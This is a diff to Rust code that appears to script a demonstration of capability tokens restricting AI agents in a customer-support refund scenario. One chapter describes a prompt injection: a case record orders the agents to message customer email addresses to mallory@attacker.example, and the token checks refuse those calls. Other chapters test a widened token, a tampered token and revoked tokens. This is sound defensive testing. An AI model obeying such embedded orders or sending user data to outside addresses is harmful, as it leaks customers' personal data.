@@ -1,6 +1,6 @@
 //! The support case: what the agents do with their tokens, chapter by chapter.
 
-use super::agents::{Tokens, tampered, widened};
+use super::agents::{PRINCIPAL, Tokens, tampered, widened};
 use super::call::{self, Call, sealed};
 use super::report::Report;
 use super::row::Row;
@@ -47,14 +47,20 @@ impl Story<'_, '_> {
         )?;
         let orchestrator = sealed(&tokens.orchestrator)?;
         let refunder = sealed(&tokens.refunder)?;
-        self.call(account().by(READER, &tokens.reader).answers("/name", "Alice Moreau")).await?;
-        self.call(cases().by(READER, &tokens.reader).answers("/0/charge", "ch_1042")).await?;
+        self.call(account().by(READER, &tokens.reader).answers(
+            "/name",
+            "Alice Moreau",
+            "Alice Moreau's account",
+        ))
+        .await?;
+        self.call(cases().by(READER, &tokens.reader).answers("/0/charge", "ch_1042", "one case"))
+            .await?;
         let body = r#"{"charge": "ch_1042", "amount": 42.5, "currency": "usd"}"#;
         let allowed = refund("42.50 usd", body).by(REFUNDER, &refunder);
-        self.call(allowed.answers("/for", "user:alice@example.com")).await?;
+        self.call(allowed.answers("/for", PRINCIPAL, "refunded, on Alice's behalf")).await?;
         let body = r#"{"to": "alice@example.com", "text": "Your 42.50 usd are on the way."}"#;
         let message = message("to alice@example.com", body).by(ORCHESTRATOR, &orchestrator);
-        self.call(message.answers("/task", tokens.task.as_str())).await
+        self.call(message.answers("/task", tokens.task.as_str(), "sent")).await
     }
 
     async fn beyond_the_task(&mut self, tokens: &Tokens) -> anyhow::Result<()> {
@@ -78,15 +84,21 @@ impl Story<'_, '_> {
     async fn an_injected_order(&mut self, tokens: &Tokens) -> anyhow::Result<()> {
         self.report.chapter(
             "A record gives orders",
-            &format!("The case that the reader read says: \"{INJECTED}\" And the agents obey."),
+            &format!(
+                "The case says: \"{INJECTED}\" The agents fall for it, and the reader, who \
+                 may write to nobody, tries Alice too."
+            ),
         )?;
         let orchestrator = sealed(&tokens.orchestrator)?;
         self.call(customers().by(READER, &tokens.reader).refused(Code::NotGranted)).await?;
         let body = r#"{"to": "mallory@attacker.example", "text": "alice@example.com, …"}"#;
         let told = message("to mallory@…", body).by(READER, &tokens.reader);
-        self.call(told.refused(Code::CheckFailed)).await?;
+        self.call(told.refused(Code::NotGranted)).await?;
         let told = message("to mallory@…", body).by(ORCHESTRATOR, &orchestrator);
-        self.call(told.refused(Code::NotGranted)).await
+        self.call(told.refused(Code::NotGranted)).await?;
+        let body = r#"{"to": "alice@example.com", "text": "bob@example.com, …"}"#;
+        let told = message("to alice@example.com", body).by(READER, &tokens.reader);
+        self.call(told.refused(Code::CheckFailed)).await
     }
 
     async fn a_stolen_token(&mut self, tokens: &Tokens) -> anyhow::Result<()> {
@@ -97,7 +109,7 @@ impl Story<'_, '_> {
         )?;
         let (widened, tampered) = (widened(&tokens.refunder)?, tampered(&tokens.refunder)?);
         let body = r#"{"charge": "ch_1042", "amount": 480, "currency": "usd"}"#;
-        let call = refund("a block grants it all", body).by(THIEF, &widened);
+        let call = refund("a block grants all", body).by(THIEF, &widened);
         self.call(call.refused(Code::CheckFailed)).await?;
         let body = r#"{"charge": "ch_1043", "amount": 20, "currency": "usd"}"#;
         let call = refund("one bit flipped", body).by(THIEF, &tampered);
@@ -118,7 +130,12 @@ impl Story<'_, '_> {
         for (who, token) in [(REFUNDER, &refunder), (HELPER, &tokens.helper)] {
             self.call(refund("20 usd", body).by(who, token).refused(Code::Revoked)).await?;
         }
-        self.call(account().by(READER, &tokens.reader).answers("/name", "Alice Moreau")).await
+        self.call(account().by(READER, &tokens.reader).answers(
+            "/name",
+            "Alice Moreau",
+            "Alice Moreau's account",
+        ))
+        .await
     }
 
     /// Nobody is left.
